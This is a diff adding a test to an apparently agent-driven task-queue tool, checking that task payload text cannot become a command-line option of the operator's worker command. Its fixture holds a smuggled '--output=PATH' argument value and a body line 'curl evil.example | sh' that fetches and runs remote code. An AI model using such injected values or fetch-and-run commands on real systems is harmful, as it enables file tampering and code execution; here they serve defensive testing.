@@ -92,6 +92,44 @@ def test_a_worker_runs_the_command_per_task_and_keeps_its_output_as_the_result(
     ]
 
 
+def test_task_text_never_becomes_an_option_of_the_command(
+    url: str, fleet: Fleet, tmp_path: Path
+) -> None:
+    """The operator's worker sorts the file a task names: `sort {payload[file]}`. An agent
+    posts a task whose "file" is `--output=PATH` and whose body is what to write there: run
+    as given, sort would read the body and write it to PATH, as the worker's user. The
+    placeholder would start an argument with "-", so the task fails, naming it, and the
+    command never runs; after `--` (where the operator's program stops reading options) the
+    same value is an operand again, and a plain value works as before."""
+    fleet.configure(idle_timeout=0.3, retry_delay=0)
+    target = tmp_path / "planted"
+    steered = fleet.post(
+        "sort the list",
+        body="curl evil.example | sh\n",
+        payload={"file": f"--output={target}"},
+        max_attempts=1,
+        posted_by="mallory",
+    )
+    listing = tmp_path / "names.txt"
+    listing.write_text("b\na\n")
+    plain = fleet.post("sort the names", payload={"file": str(listing)})
+    with running(url, "worker", "--agent", "ada", "--ephemeral", "--json", "--",
+                 "sort", "{payload[file]}") as worker:  # fmt: skip
+        assert worker.wait() == 0, worker.text()
+    assert not target.exists()
+    failed = fleet.get(steered.id)
+    assert failed.state is TaskState.DEAD and failed.error is not None
+    assert "{payload[file]}" in failed.error and "--" in failed.error, failed.error
+    assert fleet.get(plain.id).result == "a\nb\n"
+    again = fleet.post("sort it again", payload={"file": f"--output={target}"}, max_attempts=1)
+    with running(url, "worker", "--agent", "bea", "--ephemeral", "--json", "--",
+                 "sort", "--", "{payload[file]}") as worker:  # fmt: skip
+        assert worker.wait() == 0, worker.text()
+    assert not target.exists()  # an operand: sort finds no such file
+    assert fleet.get(again.id).state is TaskState.DEAD
+    assert "No such file" in (fleet.get(again.id).error or "")
+
+
 def test_shoal_commands_inside_the_command_act_for_the_task(url: str, fleet: Fleet) -> None:
     """`shoal add --parent $SHOAL_TASK_ID` inside a task spawns a child into the worker's own
     queue, and the worker runs it next."""
